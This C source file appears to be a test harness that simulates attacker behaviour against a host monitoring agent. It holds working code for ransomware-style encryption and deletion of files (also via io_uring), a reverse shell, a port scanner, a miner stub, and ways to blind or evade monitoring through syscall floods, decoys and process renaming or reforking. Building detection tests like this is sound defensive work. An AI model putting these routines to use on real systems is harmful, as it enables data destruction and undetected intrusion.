/*
 * What an unprivileged user may do against the agent: blinding, evasion, and the behaviours that it
 * hides. Harmless: files of a scratch directory that it was given, connections to 127.0.0.1, calls
 * that the kernel refuses, processes that end by themselves. Run by run.ts; "attacks WORDS".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static void rest(double seconds) {
  struct timespec t = {(time_t)seconds, (long)((seconds - (time_t)seconds) * 1e9)};
  while (nanosleep(&t, &t) != 0 && errno == EINTR) {
  }
}

static void call_itself(const char *name) { prctl(PR_SET_NAME, name); }

static void die_with_parent(void) { prctl(PR_SET_PDEATHSIG, SIGKILL); }

/* --- Blinding ------------------------------------------------------------------------------- */

static long call32(long number) {
#if defined(__x86_64__)
  long result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(number), "b"(0), "c"(0), "d"(0)
                   : "memory", "r8", "r9", "r10", "r11");
  return result;
#else
  return number;
#endif
}

/* Each child makes every call that has no name, once, by both tables. */
static void unknown_calls(int children, int every, double until) {
  while (now() < until) {
    for (int i = 0; i < children; i++)
      if (fork() == 0) {
        die_with_parent();
        for (long n = 480; n < 1024; n++) syscall(n, 0, 0, 0);
        for (long n = 480; n < 1024; n++) call32(n);
        _exit(0);
      }
    while (wait(0) > 0) {
    }
    rest(every);
  }
}

static void linger(double seconds) {
  double until = now() + seconds;
  char buffer[256];
  while (now() < until) {
    int f = open("/proc/loadavg", O_RDONLY);
    if (f >= 0) {
      if (read(f, buffer, sizeof buffer) < 0) perror("read");
      close(f);
    }
    getppid();
    rest(0.2);
  }
}

/* Keeps so many processes that were executed and live for some seconds. */
static void exec_storm(const char *self, int processes, int life, double until) {
  char seconds[16];
  snprintf(seconds, sizeof seconds, "%d", life);
  double pause = (double)life / processes;
  double next = now();
  while (now() < until) {
    while (waitpid(-1, 0, WNOHANG) > 0) {
    }
    if (fork() == 0) {
      die_with_parent();
      execl(self, self, "linger", seconds, (char *)0);
      _exit(1);
    }
    next += pause;
    if (next > now()) rest(next - now());
  }
}

static void burn(int processes, double until) {
  for (int i = 0; i < processes; i++)
    if (fork() == 0) {
      die_with_parent();
      volatile uint64_t x = 1;
      while (now() < until)
        for (int k = 0; k < 1000000; k++) x = x * 6364136223846793005u + 1;
      _exit(0);
    }
  while (wait(0) > 0) {
  }
}

/* Calls that are cheap and many. */
static void many_calls(int processes, double until) {
  for (int i = 0; i < processes; i++)
    if (fork() == 0) {
      die_with_parent();
      while (now() < until)
        for (int k = 0; k < 2000; k++) syscall(SYS_getppid);
      _exit(0);
    }
  while (wait(0) > 0) {
  }
}

/* Programs under drawn names that behave like nothing. */
static void decoys(int processes, double until) {
  for (int i = 0; i < processes; i++)
    if (fork() == 0) {
      die_with_parent();
      char name[16] = {0};
      srand(getpid());
      for (int k = 0; k < 9; k++) name[k] = 'a' + rand() % 26;
      call_itself(name);
      int pair[2];
      if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) _exit(1);
      char buffer[8];
      for (int k = 1; now() < until; k++) {
        struct timespec t = {0, 4000000};
        clock_nanosleep(CLOCK_REALTIME, 0, &t, 0);
        if (k % 64 == 0) sched_yield();
        if (k % 600 == 0 && write(pair[0], "x", 1) == 1)
          if (read(pair[1], buffer, 1) < 0) _exit(1);
      }
      _exit(0);
    }
  while (wait(0) > 0) {
  }
}

/* --- What is to be found -------------------------------------------------------------------- */

static uint64_t stream = 88172645463325252ull;

static void encrypt(char *bytes, long length) {
  for (long i = 0; i < length; i++) {
    stream ^= stream << 13;
    stream ^= stream >> 7;
    stream ^= stream << 17;
    bytes[i] ^= (char)stream;
  }
}

/* One that is read, replaced by an unreadable one, and removed. */
static void lock_file(const char *path) {
  static char bytes[65536];
  char locked[600];
  snprintf(locked, sizeof locked, "%s.locked", path);
  int from = open(path, O_RDONLY);
  if (from < 0) return;
  long length = read(from, bytes, sizeof bytes);
  close(from);
  encrypt(bytes, length);
  int to = open(locked, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (to < 0) return;
  if (write(to, bytes, length) < 0) perror("write");
  fsync(to);
  close(to);
  unlink(path);
}

/*
 * Locks the files of a directory, 25 a second. `refork`: after so many seconds a child goes on with
 * it and the process ends; `rename`: another name each two seconds.
 */
static void ransom(const char *directory, const char *how, double step, double until) {
  DIR *listing = opendir(directory);
  if (listing == NULL) exit(1);
  struct dirent *entry;
  double next = now() + step;
  int names = 0;
  while (now() < until && (entry = readdir(listing)) != NULL) {
    if (entry->d_name[0] == '.' || strstr(entry->d_name, ".locked") != NULL) continue;
    char path[512];
    snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
    lock_file(path);
    rest(0.04);
    if (step == 0 || now() < next) continue;
    next += step;
    if (strcmp(how, "refork") == 0 && fork() != 0) _exit(0);
    if (strcmp(how, "rename") == 0) {
      char name[32];
      snprintf(name, sizeof name, "task-%d", ++names);
      call_itself(name);
    }
  }
}

static int dial(int port) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) return s;
  close(s);
  return -1;
}

static void scan(double until, int from) {
  for (int port = from; now() < until; port = port % 65000 + 1) {
    int s = dial(port);
    if (s >= 0) close(s);
    if (port % 10 == 0) rest(0.02);
  }
}

/* Scanners that live for two seconds each, under one name. */
static void scan_in_lives(const char *name, double until) {
  for (int from = 1; now() < until; from += 1000) {
    if (fork() == 0) {
      die_with_parent();
      call_itself(name);
      scan(now() + 2, from % 60000 + 1);
      _exit(0);
    }
    wait(0);
  }
}

/* After so many seconds a child goes on and the process ends. */
static void scan_reforking(double step, double until) {
  for (int from = 1; now() < until; from += 3000) {
    scan(now() + step, from % 60000 + 1);
    if (fork() != 0) _exit(0);
  }
}

static void mine(int port, double until) {
  int pool = dial(port);
  if (pool < 0) exit(1);
  volatile uint64_t x = 1;
  double next = now();
  char buffer[512];
  while (now() < until) {
    for (int k = 0; k < 3000000; k++) x = x * 6364136223846793005u + 1;
    if (now() < next) continue;
    next = now() + 5;
    const char *share = "{\"id\":4,\"method\":\"mining.submit\",\"params\":[\"x\",\"1\",\"0\"]}\n";
    if (write(pool, share, strlen(share)) < 0) break;
    if (recv(pool, buffer, sizeof buffer, MSG_DONTWAIT) == 0) break;
  }
}

static void reverse_shell(int port) {
  int s = dial(port);
  if (s < 0) exit(1);
  for (int f = 0; f < 3; f++) dup2(s, f);
  execl("/bin/sh", "sh", "-i", (char *)0);
}

/* --- io_uring ------------------------------------------------------------------------------- */

struct uring {
  int fd;
  int polls;
  unsigned *tail, *mask, *array, *flags, *completed, *produced, *completed_mask;
  struct io_uring_sqe *entries;
  struct io_uring_cqe *results;
};

static int open_uring(struct uring *u, int polls) {
  struct io_uring_params p = {0};
  if (polls) {
    p.flags = IORING_SETUP_SQPOLL;
    p.sq_thread_idle = 5000;
  }
  u->polls = polls;
  u->fd = syscall(SYS_io_uring_setup, 8, &p);
  if (u->fd < 0) return -1;
  int access = PROT_READ | PROT_WRITE;
  int kind = MAP_SHARED | MAP_POPULATE;
  char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, access, kind, u->fd, IORING_OFF_SQ_RING);
  char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), access, kind,
                  u->fd, IORING_OFF_CQ_RING);
  u->entries = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), access, kind, u->fd,
                    IORING_OFF_SQES);
  u->tail = (unsigned *)(sq + p.sq_off.tail);
  u->mask = (unsigned *)(sq + p.sq_off.ring_mask);
  u->array = (unsigned *)(sq + p.sq_off.array);
  u->flags = (unsigned *)(sq + p.sq_off.flags);
  u->completed = (unsigned *)(cq + p.cq_off.head);
  u->produced = (unsigned *)(cq + p.cq_off.tail);
  u->completed_mask = (unsigned *)(cq + p.cq_off.ring_mask);
  u->results = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
  return 0;
}

static int submit(struct uring *u, struct io_uring_sqe entry) {
  unsigned tail = *u->tail, slot = tail & *u->mask;
  u->entries[slot] = entry;
  u->array[slot] = slot;
  __atomic_store_n(u->tail, tail + 1, __ATOMIC_RELEASE);
  if (u->polls) {
    if (__atomic_load_n(u->flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP)
      syscall(SYS_io_uring_enter, u->fd, 0, 0, IORING_ENTER_SQ_WAKEUP, 0, 0);
    while (__atomic_load_n(u->produced, __ATOMIC_ACQUIRE) == *u->completed) sched_yield();
  } else
    syscall(SYS_io_uring_enter, u->fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
  unsigned head = *u->completed;
  int result = u->results[head & *u->completed_mask].res;
  __atomic_store_n(u->completed, head + 1, __ATOMIC_RELEASE);
  return result;
}

static int uring_open(struct uring *u, const char *path, int flags) {
  return submit(u, (struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
                                         .fd = AT_FDCWD,
                                         .addr = (uintptr_t)path,
                                         .len = 0600,
                                         .open_flags = flags});
}

static void uring_close(struct uring *u, int f) {
  submit(u, (struct io_uring_sqe){.opcode = IORING_OP_CLOSE, .fd = f});
}

/* The files of a directory, without a call of files but for their names. */
static void ransom_by_uring(const char *directory, int polls, double until) {
  static char bytes[65536];
  struct uring u;
  if (open_uring(&u, polls) != 0) exit(77);
  DIR *listing = opendir(directory);
  struct dirent *entry;
  while (listing != NULL && now() < until && (entry = readdir(listing)) != NULL) {
    if (entry->d_name[0] == '.' || strstr(entry->d_name, ".locked") != NULL) continue;
    char path[512], locked[600];
    snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
    snprintf(locked, sizeof locked, "%s.locked", path);
    int from = uring_open(&u, path, O_RDONLY);
    if (from < 0) continue;
    struct io_uring_sqe io = {.opcode = IORING_OP_READ, .fd = from};
    io.addr = (uintptr_t)bytes;
    io.len = sizeof bytes;
    int length = submit(&u, io);
    uring_close(&u, from);
    if (length < 0) continue;
    encrypt(bytes, length);
    int to = uring_open(&u, locked, O_WRONLY | O_CREAT);
    if (to < 0) continue;
    io.opcode = IORING_OP_WRITE;
    io.fd = to;
    io.len = length;
    submit(&u, io);
    uring_close(&u, to);
    submit(&u, (struct io_uring_sqe){.opcode = IORING_OP_UNLINKAT,
                                     .fd = AT_FDCWD,
                                     .addr = (uintptr_t)path});
    double pause = now() + 0.04;
    while (now() < pause) sched_yield();
  }
}

/* --- Command line: NAME SECONDS WHAT ... ------------------------------------------------------ */

int main(int count, char **words) {
  if (count == 3 && strcmp(words[1], "linger") == 0) {
    linger(atof(words[2]));
    return 0;
  }
  if (count < 4) return 2;
  const char *name = words[1];
  const char *what = words[3];
  double until = now() + atof(words[2]);
  const char *first = count > 4 ? words[4] : "";
  int number = atoi(first);
  signal(SIGPIPE, SIG_IGN);
  if (strcmp(name, "-") != 0) call_itself(name);
  if (strcmp(what, "unknown") == 0) unknown_calls(number, 8, until);
  else if (strcmp(what, "storm") == 0) exec_storm("/proc/self/exe", number, 4, until);
  else if (strcmp(what, "burn") == 0) burn(number, until);
  else if (strcmp(what, "calls") == 0) many_calls(number, until);
  else if (strcmp(what, "linger") == 0) linger(until - now());
  else if (strcmp(what, "decoys") == 0) decoys(number, until);
  else if (strcmp(what, "ransom") == 0)
    ransom(first, count > 5 ? words[5] : "", count > 6 ? atof(words[6]) : 0, until);
  else if (strcmp(what, "uring") == 0) ransom_by_uring(first, 0, until);
  else if (strcmp(what, "sqpoll") == 0) ransom_by_uring(first, 1, until);
  else if (strcmp(what, "scan") == 0) scan(until, 1);
  else if (strcmp(what, "scan-lives") == 0) scan_in_lives(first, until);
  else if (strcmp(what, "scan-refork") == 0) scan_reforking(atof(first), until);
  else if (strcmp(what, "mine") == 0) mine(number, until);
  else if (strcmp(what, "shell") == 0) reverse_shell(number);
  else return 2;
  return 0;
}
